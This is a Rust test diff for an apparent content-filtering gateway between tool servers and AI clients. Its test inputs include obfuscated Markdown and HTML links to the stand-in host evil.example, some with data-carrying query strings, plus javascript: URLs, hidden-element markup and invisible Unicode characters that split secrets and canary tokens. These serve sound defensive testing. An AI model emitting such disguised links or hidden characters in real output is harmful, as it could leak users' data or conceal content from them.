@@ -107,6 +107,180 @@ fn links_lead_where_they_may_and_seem_to() {
     }
 }
 
+/// Programs that show HTML and Markdown decode references, and parsers of URLs drop tabs and line ends.
+#[test]
+fn links_and_markup_are_judged_as_they_are_read() {
+    for era in ERAS {
+        let told = Said::default();
+        let server = server(era, &told);
+        let on = |done: &str| {
+            let results = format!("activeMarkup: {done}, links: {done}");
+            start(
+                &server,
+                &format!(
+                    "content: [{{servers: [up], linkHosts: [ok.example, '*.ok.example'], results: {{{results}}}}}]"
+                ),
+            )
+        };
+        let (block, defang) = (on("block"), on("defang"));
+        let long = "a".repeat(5000);
+        let far = format!("<a title=\"{long}\" href=\"ht\ntps://evil.example/\">c</a>");
+        for text in [
+            &*far,
+            "![a [b [c]] d](https://evil.example/?d=1)",
+            "![x]\n\n[x]: https&#58;//evil.example/?d=1",
+            "[x](                    //evil.example )",
+            "[x]( <ht\ttps://evil.example> )",
+            "![x](https&#58;//evil.example/?d=1)",
+            "![x](https&colon;//evil.example/?d=1)",
+            "![x](&#104;ttps://evil.example/?d=1)",
+            "![x](https:&#47;&#47;evil.example/?d=1)",
+            "![x](https\\://evil.example/?d=1)",
+            "![x](/\\\\evil.example/?d=1)",
+            "<img src=\"https&#58;//evil.example/?d=1\">",
+            "<a href=\"ht\ntps://evil.example/\">c</a>",
+            "[x]( //evil.example )",
+            "[x](https:evil.example)",
+            "see www.evil.example/x",
+            "file://evil.example/x",
+        ] {
+            *told.lock().unwrap() = texts(&[text]);
+            assert!(said(&block, era).contains("withheld"), "{era:?} {text}");
+            assert_eq!(block.last()["reason"], "content", "{era:?} {text}");
+            let shown = said(&defang, era);
+            assert!(shown.contains("[.]example"), "{era:?} {text}: {shown}");
+            assert!(!shown.contains("evil.example"), "{era:?} {text}: {shown}");
+        }
+        for text in [
+            "[x](javascript&#58;alert(1))",
+            "[x](javascript&colon;alert(1))",
+            "<a href=\"java\nscript:alert(1)\">x</a>",
+            "[x](vscode&#58;//x/y)",
+            "![x](data&#58;image/svg+xml,x)",
+            "<div hidden>words</div>",
+            "<p style=\"display&#58;none\">words</p>",
+            "<p style=\"d\\69splay:none\">words</p>",
+            "<! words >",
+        ] {
+            *told.lock().unwrap() = texts(&[text]);
+            assert!(said(&block, era).contains("withheld"), "{era:?} {text}");
+            let shown = said(&defang, era);
+            assert_ne!(shown, text, "{era:?}");
+            // What was made to do nothing does nothing.
+            *told.lock().unwrap() = texts(&[&shown]);
+            assert_eq!(said(&block, era), shown, "{era:?} {text}");
+        }
+        for text in [
+            "&lt;script&gt;alert(1)&lt;/script&gt; and &amp;#58;",
+            "[x](https://ok.example/?a=1&amp;b=2) www.ok.example",
+            "List<? extends T> a; <?xml version=\"1.0\"?> <p class=\"a hidden b\">x</p>",
+        ] {
+            *told.lock().unwrap() = texts(&[text]);
+            assert_eq!(said(&block, era), text, "{era:?}");
+        }
+    }
+}
+
+/// One table of what is not shown, for everything that looks for it or through it.
+#[test]
+fn what_is_not_shown_is_found_and_hides_nothing() {
+    const HIDDEN: [&str; 14] = [
+        "\u{180b}",
+        "\u{180f}",
+        "\u{61c}",
+        "\u{fe0e}",
+        "\u{fe0f}",
+        "\u{fe00}",
+        "\u{fff0}",
+        "\u{fff8}",
+        "\u{1bca0}",
+        "\u{1bca3}",
+        "\u{1d173}",
+        "\u{1d17a}",
+        "\u{e0100}",
+        "\u{200b}",
+    ];
+    let canary = "canary-7f3a9c21-qz";
+    for era in ERAS {
+        let told = Said::default();
+        let server = server(era, &told);
+        let with = |content: &str| {
+            start(
+                &server,
+                &format!("canaries: [{canary}]\ncontent: [{{servers: [up], {content}}}]"),
+            )
+        };
+        let block = with("results: {hiddenCharacters: block}");
+        let redact = with(
+            "results: {hiddenCharacters: 'off', secrets: redact, canaries: redact}, arguments: {secrets: block, canaries: block}",
+        );
+        for hidden in HIDDEN {
+            *told.lock().unwrap() = texts(&[&format!("All is {} well.", hidden.repeat(200))]);
+            assert!(said(&block, era).contains("withheld"), "{era:?} {hidden:?}");
+            for value in [SECRET, canary] {
+                let split: String =
+                    value.chars().flat_map(|c| [c.to_string(), hidden.to_owned()]).collect();
+                *told.lock().unwrap() = texts(&[&format!("It is {split}.")]);
+                let shown = said(&redact, era).replace(hidden, "");
+                assert!(
+                    !shown.contains(value) && shown.contains("[REDACTED:"),
+                    "{hidden:?}: {shown}"
+                );
+                let before = server.tool_calls().len();
+                let client = redact.client(era, ANA);
+                let answer = client.call("work", &json!({ "note": split })).json();
+                assert_eq!(answer["result"]["isError"], true, "{era:?} {hidden:?}: {answer}");
+                assert_eq!(server.tool_calls().len(), before, "{era:?} {hidden:?}");
+            }
+        }
+        // Where such characters belong they stay.
+        for text in [
+            "👩\u{200d}💻 ✔\u{fe0f} ❤\u{fe0f}\u{200d}🔥 1\u{fe0f}\u{20e3}",
+            "葛\u{e0100}飾区の辻\u{e0101}さん",
+            "ᠬᠠᠭᠠᠨ\u{180b}ᠲᠤ ᠮᠣᠩᠭᠣᠯ\u{180e}ᠠ ᠭ\u{180f}ᠠ",
+            "\u{1d173}\u{1d15f}\u{1d15f}\u{1d174} \u{1bc00}\u{1bca0}\u{1bc01}",
+            "می\u{200c}خواهم \u{61c}12\u{61c} العربية \u{200f}abc\u{200f}",
+        ] {
+            *told.lock().unwrap() = texts(&[text]);
+            assert_eq!(said(&block, era), text, "{era:?}");
+        }
+    }
+}
+
+/// A client that reads names loosely would show what was not looked at as what it is.
+#[test]
+fn content_is_read_in_no_other_spelling() {
+    let data = json!({ "type": "text", "text": "x" });
+    let beside = |key: &str| {
+        let mut block = data.clone();
+        block[key] = "more".into();
+        block
+    };
+    for era in ERAS {
+        let told = Said::default();
+        let server = server(era, &told);
+        let gateway = start(&server, "");
+        for key in
+            ["Text", "TYPE", "mime_type", "MimeType", "Data", "te_xt", "text ", "text\0", "Blob"]
+        {
+            let mut resource =
+                json!({ "type": "resource", "resource": { "uri": "file:///a", "text": "x" } });
+            resource["resource"][key] = "more".into();
+            for block in [beside(key), resource] {
+                *told.lock().unwrap() =
+                    json!({ "resultType": "complete", "content": [data, block] });
+                let answer = gateway.client(era, ANA).call("work", &json!({}));
+                assert!(!answer.body.contains("more"), "{era:?} {key:?}: {answer:?}");
+                assert_eq!(gateway.last()["reason"], "upstream-protocol", "{era:?} {key:?}");
+            }
+        }
+        for key in ["x-Text", "textual", "vendor/type"] {
+            *told.lock().unwrap() = json!({ "resultType": "complete", "content": [beside(key)] });
+            assert_eq!(said(&gateway, era), "x", "{key}");
+        }
+    }
+}
+
 #[test]
 fn what_is_found_is_said_before_the_text() {
     for era in ERAS {
